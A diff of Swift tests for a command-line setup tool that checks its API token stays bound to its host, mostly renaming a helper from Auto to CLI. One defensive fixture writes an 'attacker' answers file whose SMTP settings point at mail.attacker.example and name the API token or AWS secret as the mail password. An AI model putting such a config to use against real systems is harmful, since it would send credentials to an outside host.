@@ -10,7 +10,6 @@ import TFESandbox
 extension TerminalSuite {
 @Suite("The token is bound to its host")
 struct TokenBindingTests {
-    typealias Auto = AutomationCommandTests
 
     /// Runs `tfe-setup` with exactly these arguments and environment (nothing added).
     static func run(_ args: [String], env: [String: String], in dir: String) async -> (status: Int32, output: String) {
@@ -21,9 +20,9 @@ struct TokenBindingTests {
 
     @Test("an address only the answers file names gets nothing: exit 1 before any request, saying how to confirm it")
     func answersAddressRefused() async throws {
-        try await Auto.with { server, dir in
+        try await CLI.with { server, dir in
             let listener = try await SandboxServer.start(options: SandboxOptions(rateLimit: 0))
-            let shared = Auto.write(dir, "shared.json", #"{"address":"\#(listener.address)","organization":"my-org","token_ttl":{"user":"30d"}}"#)
+            let shared = CLI.write(dir, "shared.json", #"{"address":"\#(listener.address)","organization":"my-org","token_ttl":{"user":"30d"}}"#)
             let tokenFile = dir + "/token"
             _ = FileManager.default.createFile(atPath: tokenFile, contents: Data(server.tokens.siteAdmin.utf8), attributes: [.posixPermissions: 0o600])
             for (what, args, env) in [
@@ -64,14 +63,14 @@ struct TokenBindingTests {
 
     @Test("password_env naming the API token, another secret's variable, or a variable holding the token is refused before any request")
     func passwordEnvRefused() async throws {
-        try await Auto.with { server, dir in
+        try await CLI.with { server, dir in
             let tokenFile = dir + "/token"
             _ = FileManager.default.createFile(atPath: tokenFile, contents: Data(server.tokens.siteAdmin.utf8), attributes: [.posixPermissions: 0o600])
             let attacker = #"{"organization":"my-org","smtp":{"enabled":true,"host":"mail.attacker.example","port":25,"sender":"x@attacker.example","auth":"login","username":"u","password_env":"%@","test_email_address":"x@attacker.example"}}"#
             for (variable, env, why) in [("TFE_TOKEN", ["TFE_TOKEN": server.tokens.siteAdmin], "not a variable for the SMTP password"),
                                          ("AWS_SECRET_ACCESS_KEY", ["AWS_SECRET_ACCESS_KEY": "fake-aws-secret-canary"], "not a variable for the SMTP password"),
                                          ("SMTP_INNOCENT", ["SMTP_INNOCENT": server.tokens.siteAdmin], "API token")] {
-                let file = Auto.write(dir, "attacker-\(variable).json", attacker.replacingOccurrences(of: "%@", with: variable))
+                let file = CLI.write(dir, "attacker-\(variable).json", attacker.replacingOccurrences(of: "%@", with: variable))
                 for command in ["plan", "apply"] {
                     let args = [command, "--answers", file, "--address", server.address, "--token-file", tokenFile] + (command == "apply" ? ["--auto-approve"] : [])
                     let r = await Self.run(args, env: env, in: dir)
@@ -86,9 +85,9 @@ struct TokenBindingTests {
     }
 
     @Test("plan names where the password comes from") func passwordSourceNamed() async throws {
-        try await Auto.with { server, dir in
-            let file = Auto.write(dir, "answers.json", Auto.seed)
-            let r = await Auto.run(server, dir, ["plan", "--answers", file])
+        try await CLI.with { server, dir in
+            let file = CLI.write(dir, "answers.json", CLI.seed)
+            let r = await CLI.run(server, dir, ["plan", "--answers", file])
             #expect(r.status == 2, "\(r.output)")
             #expect(r.output.contains("Password: (will be sent), from $SMTP_PASSWORD"), "\(r.output)")
         }
